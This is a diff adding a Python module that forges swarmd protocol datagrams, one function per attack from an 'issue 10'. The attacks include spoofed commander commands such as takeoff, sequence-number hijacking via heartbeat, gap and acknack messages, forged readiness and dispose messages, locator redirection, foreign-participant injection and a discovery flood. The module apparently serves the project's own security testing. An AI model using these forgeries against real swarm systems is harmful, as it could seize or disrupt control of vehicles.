@@ -1,0 +1,207 @@
+"""Forged datagrams, built with swarmd's own codec (issue 10's attacks, one function each).
+
+Pure functions: identities in, bytes out. What the attacker needs is what it can learn on
+the air without any key: GUID prefixes and locators from every SPDP announcement, entity ids
+from every user-data datagram (they are also a function of the mission's topic order,
+``endpoint_entity_id``), the SPDP and user ports from the domain id. Nothing here touches a
+bundle key: the point of the attacks is that none is needed today.
+"""
+
+from __future__ import annotations
+
+import dataclasses
+import random
+from collections.abc import Sequence
+from typing import Final
+
+from swarmd.bundle.model import EndpointKind, endpoint_entity_id
+from swarmd.dataplane.types import Command, CommandKind, Readiness, encode_sample
+from swarmd.rtps.locator import Locator
+from swarmd.rtps.message import (
+    AckNack,
+    Data,
+    Gap,
+    Header,
+    Heartbeat,
+    InfoDst,
+    SequenceNumberSet,
+    Submessage,
+    encode_message,
+)
+from swarmd.rtps.spdp import SpdpParticipant, encode_spdp, encode_spdp_dispose
+from swarmd.rtps.types import (
+    PROTOCOLVERSION_SWARMD,
+    VENDORID_SWARMD,
+    EntityId,
+    GuidPrefix,
+    Time,
+)
+
+# A sequence number far above anything an honest writer reaches (incarnation << 32 | n with
+# a boot counter in the thousands): a reader moved here treats every real sample as old.
+JUMP_SN: Final = 1 << 62
+# Command ids the attacker uses: recognisable in logs, never a real commander's
+# (incarnation << 32 | counter with a small incarnation).
+FORGED_COMMAND_ID_BASE: Final = 0xA77A_C000_0000_0000
+
+
+def _header(prefix: GuidPrefix) -> Header:
+    return Header(PROTOCOLVERSION_SWARMD, VENDORID_SWARMD, prefix)
+
+
+def entity(topic_index: int, kind: EndpointKind) -> EntityId:
+    """The entity id of a bundle endpoint: on the air in every user-data datagram."""
+    return endpoint_entity_id(topic_index, kind)
+
+
+def user_datagram(
+    source: GuidPrefix, destination: GuidPrefix, submessages: Sequence[Submessage]
+) -> bytes:
+    """RTPS header claiming ``source`` + INFO_DST(destination) + ``submessages``: the shape
+    of every datagram a swarmd data plane sends."""
+    return encode_message(_header(source), [InfoDst(destination), *submessages])
+
+
+def command(
+    kind: CommandKind, number: int, *, targets: Sequence[str] = (), altitude_m: float = 5.0
+) -> Command:
+    """A command the attacker makes up (issue 10 attack 1)."""
+    alt = altitude_m if kind == CommandKind.TAKEOFF else 0.0
+    return Command(FORGED_COMMAND_ID_BASE + number, kind, float(alt), list(targets))
+
+
+def forged_command(
+    commander: GuidPrefix,
+    member: GuidPrefix,
+    *,
+    writer: EntityId,
+    reader: EntityId,
+    sn: int,
+    sample: Command,
+    heartbeat_count: int = 1,
+) -> bytes:
+    """Issue 10 attack 1: DATA(Command) + HEARTBEAT(first = last = sn) as the commander.
+
+    The HEARTBEAT tells the member's reliable reader that nothing below ``sn`` exists any
+    more, so the DATA is delivered at once whatever the reader expected."""
+    return user_datagram(
+        commander,
+        member,
+        [
+            Data(reader, writer, sn, serialized_payload=encode_sample(sample)),
+            Heartbeat(reader, writer, sn, sn, heartbeat_count),
+        ],
+    )
+
+
+def forged_heartbeat(
+    source: GuidPrefix,
+    destination: GuidPrefix,
+    *,
+    writer: EntityId,
+    reader: EntityId,
+    first: int,
+    last: int,
+    count: int,
+) -> bytes:
+    """Issue 10 attack 2: a HEARTBEAT that moves a reader's position (``first`` far ahead)."""
+    return user_datagram(source, destination, [Heartbeat(reader, writer, first, last, count)])
+
+
+def forged_gap(
+    source: GuidPrefix,
+    destination: GuidPrefix,
+    *,
+    writer: EntityId,
+    reader: EntityId,
+    start: int,
+    end: int,
+) -> bytes:
+    """Issue 10 attack 2: GAP [start, end) marks every SN up to ``end`` irrelevant."""
+    return user_datagram(
+        source, destination, [Gap(reader, writer, start, SequenceNumberSet(end, 0))]
+    )
+
+
+def forged_acknack(
+    source: GuidPrefix,
+    destination: GuidPrefix,
+    *,
+    writer: EntityId,
+    reader: EntityId,
+    base: int,
+    count: int,
+) -> bytes:
+    """Issue 10 attack 2: ACKNACK(base, empty set) = "I have everything below ``base``"."""
+    return user_datagram(
+        source,
+        destination,
+        [AckNack(reader, writer, SequenceNumberSet(base, 0), count, final=True)],
+    )
+
+
+def forged_readiness(
+    member: GuidPrefix,
+    commander: GuidPrefix,
+    *,
+    writer: EntityId,
+    reader: EntityId,
+    sn: int,
+    sample: Readiness,
+) -> bytes:
+    """Issue 10 attack 3: one readiness sample at a high SN; best-effort keep-last then
+    treats every real (lower-SN) report as stale."""
+    return user_datagram(
+        member, commander, [Data(reader, writer, sn, serialized_payload=encode_sample(sample))]
+    )
+
+
+def forged_dispose(prefix: GuidPrefix, sn: int) -> bytes:
+    """Issue 10 attack 3: DATA(p[UD]) claiming ``prefix`` has left."""
+    return encode_spdp_dispose(prefix, sequence_number=sn, timestamp=Time(0, 0))
+
+
+def forged_alive(
+    real: SpdpParticipant, sn: int, *, unicast: tuple[str, int], metatraffic: tuple[str, int]
+) -> bytes:
+    """Issue 10 attacks 4 and 7: a member's own sniffed DATA(p), its locators replaced.
+
+    ``heard`` is cleared so every receiver owes it a directed reply, which goes to the
+    forged metatraffic locator."""
+    forged = dataclasses.replace(
+        real,
+        default_unicast_locators=(Locator.udpv4(*unicast),),
+        metatraffic_unicast_locators=(Locator.udpv4(*metatraffic),),
+        heard=bytes(len(real.heard)) if real.heard is not None else None,
+    )
+    return encode_spdp(forged, sequence_number=sn, timestamp=Time(0, 0))
+
+
+def foreign_participant(prefix: GuidPrefix, name: str, sn: int = 1) -> bytes:
+    """Issue 10 attack 8: a participant of no bundle whose ENTITY_NAME is ``name``."""
+    part = SpdpParticipant(
+        prefix,
+        vendor_id=VENDORID_SWARMD,
+        entity_name=name,
+        metatraffic_unicast_locators=(Locator.udpv4("10.255.255.1", 7410),),
+        default_unicast_locators=(Locator.udpv4("10.255.255.1", 7411),),
+    )
+    return encode_spdp(part, sequence_number=sn, timestamp=Time(0, 0))
+
+
+def flood_pool(members: Sequence[SpdpParticipant], size: int, rng: random.Random) -> list[bytes]:
+    """Issue 10 attack 9: ``size`` distinct forged SPDP datagrams.
+
+    Half claim a member's prefix (an alive at a fresh SN, locators unchanged: the costly
+    kind, it must be verified or rejected), half are new random foreign prefixes (each one
+    a table entry and a log line in a daemon that keeps no budget)."""
+    out: list[bytes] = []
+    for i in range(size):
+        if members and i % 2 == 0:
+            real = members[(i // 2) % len(members)]
+            out.append(encode_spdp(real, sequence_number=1_000_000 + i, timestamp=None))
+        else:
+            prefix = GuidPrefix(bytes(rng.getrandbits(8) for _ in range(12)))
+            part = SpdpParticipant(prefix, entity_name=f"flood-{i}")
+            out.append(encode_spdp(part, sequence_number=1, timestamp=None))
+    return out
